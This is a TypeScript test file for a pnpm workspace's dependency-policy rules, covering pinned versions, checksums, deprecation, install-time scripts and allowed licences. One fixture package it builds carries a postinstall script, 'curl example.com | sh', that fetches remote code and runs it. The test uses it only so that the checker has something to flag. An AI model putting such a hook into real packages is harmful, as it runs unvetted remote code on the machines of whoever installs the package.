import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { dependencyRules, isAllowedLicence } from './dependencies.ts';

const repository = dirname(import.meta.dirname);

describe('every dependency', () => {
  it.each(Object.entries(dependencyRules))('%s', (_rule, violations) => {
    expect(violations(repository)).toEqual([]);
  });
});

describe('a workspace that breaks every rule', () => {
  let root: string;
  const write = (path: string, content: string | object) => {
    mkdirSync(dirname(join(root, path)), { recursive: true });
    writeFileSync(join(root, path), typeof content === 'string' ? content : JSON.stringify(content));
  };
  /** A package in the package store and among the dependencies of the server. */
  const install = (name: string, manifest: object, files: Record<string, string> = {}) => {
    const folder = `node_modules/.pnpm/${name}@1.0.0/node_modules/${name}`;
    write(`${folder}/package.json`, { name, version: '1.0.0', ...manifest });
    write(`server/node_modules/${name}/package.json`, { name, version: '1.0.0', ...manifest });
    for (const [file, text] of Object.entries(files))
      for (const at of [folder, `server/node_modules/${name}`]) write(`${at}/${file}`, text);
  };
  beforeEach(() => {
    root = mkdtempSync(join(tmpdir(), 'vitae-dependencies-'));
    for (const at of ['web', 'desktop', 'packages/cli']) write(`${at}/package.json`, { name: at });
    write('package.json', { name: 'root', devDependencies: { ranged: '^1.0.0', tagged: 'latest' } });
    write('server/package.json', {
      name: 'server',
      dependencies: { copyleft: '1.0.0', unnamed: '1.0.0', permissive: '1.0.0' },
      devDependencies: { builder: '1.0.0' },
    });
    write(
      'pnpm-workspace.yaml',
      "packages:\n  - server\nallowBuilds:\n  decided: false\n  '@scope/decided': true\noverrides:\n  builder: 1.0.0\n",
    );
    const resolution = (held: string) => `    resolution: ${held}\n`;
    const entries = ['builder', 'recipe', 'decided', 'copyleft', 'unnamed', 'permissive'].map(
      (name) => `  ${name}@1.0.0:\n${resolution('{integrity: sha512-YQ==}')}\n`,
    );
    write(
      'pnpm-lock.yaml',
      `packages:\n\n${entries.join('')}  old@1.0.0:\n${resolution('{tarball: https://example.com/old.tgz}')}    deprecated: Use another\n\nsnapshots:\n`,
    );
    install('builder', { license: 'MIT', scripts: { postinstall: 'curl example.com | sh' } });
    install('recipe', { license: 'MIT' }, { 'binding.gyp': '{}' });
    install('decided', { license: 'MIT', scripts: { install: 'node-gyp rebuild' } });
    install('copyleft', { license: 'GPL-3.0-only' });
    install('unnamed', {});
    install('permissive', { dependencies: { 'of-permissive': '1.0.0' } }, { LICENSE: 'MIT License\n\nCopyright' });
    install('of-permissive', { license: 'AGPL-3.0-only' });
  });
  afterEach(() => rmSync(root, { recursive: true }));

  it.each([
    [
      'is pinned to one version, and held by a checksum',
      ['root: ranged is "^1.0.0"', 'root: tagged is "latest"', 'old@1.0.0: {tarball: https://example.com/old.tgz}'],
    ],
    ['was not called deprecated by the registry', ['old@1.0.0 Use another']],
    ['runs nothing at installation that was not decided on', ['builder 1.0.0: postinstall', 'recipe 1.0.0: node-gyp']],
    [
      'ships under an allowed licence',
      ['copyleft 1.0.0: GPL-3.0-only', 'of-permissive 1.0.0: AGPL-3.0-only', 'unnamed 1.0.0: no licence'],
    ],
  ])('reports that not every one %s', (rule, expected) => {
    expect(dependencyRules[rule]?.(root).toSorted((one, other) => one.localeCompare(other))).toEqual(
      expected.toSorted((one, other) => one.localeCompare(other)),
    );
  });
});

describe('a licence', () => {
  it.each([
    ['MIT', true],
    ['(MIT OR GPL-3.0)', true],
    ['MIT AND GPL-3.0', false],
    ['(MIT AND OFL-1.1) OR GPL-3.0', true],
    ['SEE LICENSE IN LICENSE.md', false],
    ['UNLICENSED', false],
    ['', false],
  ])('%s may ship: %s', (expression, isAllowed) => {
    expect(isAllowedLicence(expression)).toBe(isAllowed);
  });

  it('of a dictionary may ask for its source, which is the file itself', () => {
    expect(isAllowedLicence('(GPL-2.0 OR GPL-3.0)', 'dictionary-de')).toBe(true);
    expect(isAllowedLicence('GPL-3.0', 'some-library')).toBe(false);
    expect(isAllowedLicence('UNLICENSED', 'dictionary-xx')).toBe(false);
  });
});
